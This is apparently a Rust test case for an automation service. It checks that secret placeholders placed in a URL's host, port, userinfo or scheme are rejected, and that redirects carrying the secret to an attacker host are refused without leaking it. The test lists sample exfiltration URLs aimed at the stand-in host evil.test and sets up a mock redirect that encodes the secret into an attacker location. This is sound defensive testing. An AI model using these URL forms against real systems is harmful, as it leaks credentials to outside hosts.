//! I6: a secret in the URL's host, or in where an answer redirects to. The first cannot be written; the second is
//! scrubbed, and not followed.

use serde_json::json;

use crate::{
    ensure,
    scene::{Scene, Verdict},
    upstream::answer,
    world::World,
};

pub(crate) async fn case(world: &'static World) -> Verdict {
    let scene = Scene::with(world, "I6", json!({"places": ["auth", "path"]})).await;
    let lease = scene.lease().await;
    for url in [
        "https://{{secrets.KEY}}.evil.test/",
        "https://{{secrets.KEY}}/",
        "https://x{{secrets.KEY}}:443/",
        "https://evil.test:{{secrets.KEY}}/",
        "https://{{secrets.KEY}}@evil.test/",
        "https://u:{{secrets.KEY}}@evil.test/",
        "{{secrets.KEY}}",
        "{{secrets.KEY}}://evil.test/",
        "https://evil.test\\{{secrets.KEY}}/",
    ] {
        let step = json!({"url": url});
        let reply = scene.sealed(&step).await;
        ensure!(matches!(reply.status, 403 | 422), "{url}: {}", reply.text);
        let saved = scene.p.put("/automations/h", json!({"steps": [{"id": "a", "http": step}]})).await;
        ensure!(saved.status == 422, "saved: {url}");
    }
    // As a segment of the path it may stand, where that is its place.
    let url = format!("{}/{{{{secrets.KEY}}}}/x", scene.url("/p"));
    scene.sealed(&json!({"url": url})).await.expect(200);
    ensure!(scene.last().line().contains(&format!("/p/{}/x", scene.s)), "{}", scene.last().line());

    for written in ["S", "sub.S", "x/?k=S", "x#S"] {
        for form in ["plain", "hex", "percent"] {
            let evil = scene.evil_authority();
            scene.on("/r", move |seen| {
                let value = match form {
                    "hex" => seen.s.bytes().map(|byte| format!("{byte:02x}")).collect(),
                    "percent" => seen.s.bytes().map(|byte| format!("%{byte:02x}")).collect(),
                    _ => seen.s.clone(),
                };
                let to = format!("https://{evil}/{}", written.replace('S', &value));
                vec![answer("302 Found", &format!("location: {to}\r\n"), b"")]
            });
            for seen in scene.observe_noleak(&lease, "/r").await? {
                ensure!(seen.status == 302, "{}: {}", seen.how, seen.status);
            }
            let step = json!({"url": scene.url("/r"), "auth": {"secret": "KEY"}, "redirects": 5});
            let reply = scene.sealed(&step).await;
            ensure!(
                (reply.status, &reply.json()["code"]) == (502, &json!("redirect_refused")),
                "{}",
                reply.text
            );
            scene.noleak("the refusal", reply.text.as_bytes())?;
        }
    }
    ensure!(scene.evil_count() == 0, "a redirect was followed");
    scene.nosend()
}
